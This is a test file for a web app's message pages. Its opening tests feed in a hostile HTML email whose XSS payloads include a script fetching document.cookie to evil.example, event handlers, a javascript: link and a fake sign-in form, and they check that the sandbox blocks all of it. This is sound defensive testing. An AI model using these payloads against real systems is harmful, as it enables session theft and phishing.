import { describe, expect, test } from 'vitest';
import { SESSION_COOKIE } from '../../src/access/session.js';
import { messageId } from '../../src/message/id.js';
import { addDelivery, addThread, placeIn, plan } from '../routes/seed.js';
import { open, page, site, somebody, visit } from './visit.js';

visit('one site');

function mail(headers: string, body: string): string {
  return `From: Mallory <mallory@evil.example>\r\nTo: invoices@example.com\r\n${headers}\r\n\r\n${body}`;
}

const HOSTILE = mail(
  'Subject: =?utf-8?Q?<script>document.title=3D"taken"</script>?=\r\nContent-Type: text/html; charset=utf-8',
  `<html><head><style>@import "https://evil.example/a.css"; body { background: url(https://evil.example/b.png) }</style>
   <meta http-equiv="refresh" content="0;url=https://evil.example/c"><base href="https://evil.example/"></head>
   <body onload="parent.document.title='taken'"><p>An honest sentence.</p>
   <script>parent.document.title = 'taken'; fetch('https://evil.example/d?' + document.cookie)</script>
   <img src="https://evil.example/e.png"><img src=x onerror="fetch('https://evil.example/f')">
   <svg onload="fetch('https://evil.example/g')"></svg>
   <iframe src="https://evil.example/h"></iframe><object data="https://evil.example/i"></object>
   <form action="https://evil.example/j"><input name="password"><button>Sign in</button></form>
   <a href="javascript:parent.document.title='taken'">click</a>
   <div style="position:fixed;inset:0;background:url(https://evil.example/k)">over everything</div></body></html>`,
);

describe('hostile mail', () => {
  test('runs nothing, loads nothing, sends nothing, and is read', async () => {
    const place = await site.addMail(HOSTILE);
    await somebody();
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.goto(`/messages/${messageId(place)}`);
    const frame = page.frameLocator('iframe');
    await frame.getByText('An honest sentence.').waitFor();
    await frame.getByText(/left out \d+ things that would have been fetched/).waitFor();
    await page.waitForLoadState('networkidle');
    expect(asked.filter((url) => !url.startsWith(site.origin))).toEqual([]);
    expect(await page.title()).not.toContain('taken ·');
    expect(
      await frame.locator('script, form, input, button, iframe, object, svg, meta[http-equiv], base').count(),
    ).toBe(0);
    expect(await frame.locator('[onload], [onerror], a[href^="javascript"]').count()).toBe(0);
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('<script>document.title="taken"</script>');
  });

  test('even with a script in it, the frame has neither scripts nor our cookies nor our pages', async () => {
    const place = await site.addMail(HOSTILE);
    await open(`/messages/${messageId(place)}/html`);
    const response = await page.request.get(`/messages/${messageId(place)}/html`);
    const policy = response.headers()['content-security-policy'] ?? '';
    expect(policy).toContain('sandbox');
    expect(policy).not.toContain('allow-scripts');
    expect(policy).not.toContain('allow-same-origin');
    expect(policy).toContain("default-src 'none'");
    // An opaque origin: whatever ran there could not be us.
    expect(await page.evaluate(() => self.origin)).toBe('null');
    expect((await page.context().cookies()).some(({ name, httpOnly }) => name === SESSION_COOKIE && httpOnly)).toBe(
      true,
    );
    const attributes = mail('Content-Type: text/html', '<p>hi');
    await page.goto(`/messages/${messageId(await site.addMail(attributes))}`);
    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('allow-popups allow-popups-to-escape-sandbox');
  });

  test('names and texts of others are only ever text', async () => {
    const place = await site.addMail(
      mail(
        'Subject: x\r\nX-Note: <img src=x onerror=alert(1)>\r\nContent-Type: multipart/mixed; boundary=b',
        '--b\r\nContent-Type: text/plain\r\n\r\n</pre><script>document.title="taken"</script>\r\n--b\r\n' +
          'Content-Type: text/html; name="<b>.html"\r\nContent-Disposition: attachment; filename="evil.html"\r\n\r\n<script>1</script>\r\n--b--\r\n',
      ),
    );
    await open(`/messages/${messageId(place)}?tab=text`);
    expect(await page.getByLabel('Text', { exact: true }).textContent()).toContain('</pre><script>');
    await page.getByRole('link', { name: 'Headers' }).click();
    await page.getByText('<img src=x onerror=alert(1)>').waitFor();
    await page.getByRole('link', { name: 'Raw', exact: true }).click();
    await page.getByText('X-Note: <img src=x').waitFor();
    expect(await page.title()).not.toContain('taken');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('link', { name: 'evil.html' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('evil.html');
  });
});

test('the JSON of an event is shown with every digit it came with', async () => {
  const place = await site.addEvent('{"amount":12345678901234567890.1234567890,"rate":1.10,"name":"<b>&amp;"}');
  await open(`/messages/${messageId(place)}`);
  expect(await page.getByLabel('Data').textContent()).toBe(
    '{\n  "amount": 12345678901234567890.1234567890,\n  "rate": 1.10,\n  "name": "<b>&amp;"\n}',
  );
});

test('every page of HTML forbids scripts and styles that are not files of ours', async () => {
  const response = await fetch(`${site.origin}/sign-in`);
  const policy = response.headers.get('content-security-policy') ?? '';
  expect(policy).toContain("default-src 'self'");
  expect(policy).not.toContain('unsafe');
});

test('what happened and why: rules with each clause, plans, decisions and deliveries', async () => {
  const rules = `mode: first-match
rules:
  - name: large
    when: { type: order.placed, account: { prefix: big } }
    then: { targets: erp }
  - name: orders
    description: All other orders.
    when: { type: { prefix: order. } }
    then: { targets: crm }
`;
  await site.pool.query(
    `insert into rule_set (tenant, version, hash, text, managed_by, active, who) values ($1, 7, 'x', $2, 'file', true, 'file')`,
    [site.tenant.id, rules],
  );
  const place = await site.addEvent('{"a":1}');
  const by = { by: 'rules' as const, set: 7, rules: ['orders'] };
  const number = await plan(site.pool, site.tenant, place, { by, targets: [[site.targets.crm, 1, 'later']] });
  await site.pool.query(`update standing set state = 'routed' where sequence = $1`, [place.sequence]);
  await addDelivery(site.pool, site.tenant, place, {
    target: site.targets.crm,
    number: 1,
    plan: number,
    state: 'failed',
  });
  await site.pool.query(`update delivery set decision = $1, attempts = 1, reason = 'it answered 400'`, [
    JSON.stringify(by),
  ]);
  await site.pool.query(
    `insert into delivery_attempt (tenant, target, channel, epoch, number, attempt, what, started_at, took_ms, result, code, reason, answer)
     values ($1, $2, $3, 1, 1, 1, 'message', now(), 12, 'refused', 'http_400', 'it answered 400', '<h1>no</h1>')`,
    [site.tenant.id, site.targets.crm, place.channel],
  );
  await open(`/messages/${messageId(place)}`);
  const timeline = page.locator('.timeline');
  expect(await timeline.getByText('Routed by orders').count()).toBe(1);
  expect(await timeline.getByText('crm gets it as number 1.').count()).toBe(1);
  expect(await timeline.getByText('crm: failed').count()).toBe(1);
  const large = page.locator('.rule').filter({ hasText: 'large' });
  await large.locator('summary').click();
  expect(await large.getByRole('row').filter({ hasText: 'account' }).textContent()).toMatch(
    /prefix "big".*"acme".*false/,
  );
  expect(await page.locator('.rule').filter({ hasText: 'All other orders.' }).getByText('matched').count()).toBe(1);

  await page.getByRole('link', { name: 'every try' }).click();
  await page.getByText('<h1>no</h1>').waitFor();
  await page.getByRole('button', { name: 'Send again' }).click();
  await page.getByRole('status').filter({ hasText: 'It will be sent again.' }).waitFor();
  await page.locator('.timeline').getByText('had it sent again to crm').waitFor();
});

test('a message is noted, snoozed and reopened on its page', async () => {
  const place = await site.addMail(mail('Subject: later', 'Not now.'));
  await open(`/messages/${messageId(place)}`);
  await page.getByLabel('Note').fill('Asked the sender.');
  await page.getByRole('button', { name: 'Write note' }).click();
  await page.locator('.timeline').getByText('“Asked the sender.”').waitFor();
  await page.getByLabel('Snooze for').selectOption('72');
  await page.getByRole('button', { name: 'Snooze' }).click();
  await page.getByRole('status').filter({ hasText: 'Snoozed.' }).waitFor();
  await page.goto('/inbox?state=snoozed');
  await page.getByRole('link', { name: 'later' }).click();
  await page.getByRole('button', { name: 'Reopen' }).click();
  await page.getByRole('status').filter({ hasText: 'it waits in the inbox again' }).waitFor();
});

test('a message that is not there has a page that says so', async () => {
  await open('/messages/3-999');
  await page.getByRole('heading', { name: 'Not found' }).waitFor();
  await page.getByRole('link', { name: 'To the inbox' }).click();
  await page.getByRole('heading', { name: 'Inbox' }).waitFor();
});

test('its conversation: which one it is, the others, what it followed and what changed', async () => {
  const thread = await addThread(site.pool, site.tenant);
  const places = [];
  for (const [i, text] of ['first', 'second', 'third'].entries()) {
    const place = await site.addMail(mail(`Subject: conversation ${i + 1}`, text));
    const content = { fields: null, text, html: null, parts: [] };
    await placeIn(site.pool, site.tenant, place, { thread, number: i + 1, content, targets: [site.targets.crm] });
    places.push(place);
  }
  const [first, second, third] = places;
  if (!first || !second || !third) throw new RangeError('three mails');
  const by = { by: 'thread' as const, set: 0, thread, number: 1 };
  await plan(site.pool, site.tenant, second, { by, targets: [[site.targets.crm, 1, 'now']], kind: 'extra' });
  await open(`/messages/${messageId(second)}`);
  const section = page.getByRole('region', { name: '2nd of 3 in its conversation' });
  expect(await section.getByRole('listitem').count()).toBe(4);
  expect(await section.locator('[aria-current]').textContent()).toBe('conversation 2');
  await section.getByText('No rule matched: it went where the 1st went.').waitFor();
  await section.getByText('What changed since the 1st').waitFor();
  await section.getByText('Its text, and nothing that is looked for.').waitFor();
  await page.locator('.timeline').getByText('Followed its conversation').waitFor();
  await section.getByRole('link', { name: 'conversation 3' }).click();
  await page.getByRole('region', { name: '3rd of 3 in its conversation' }).waitFor();
});
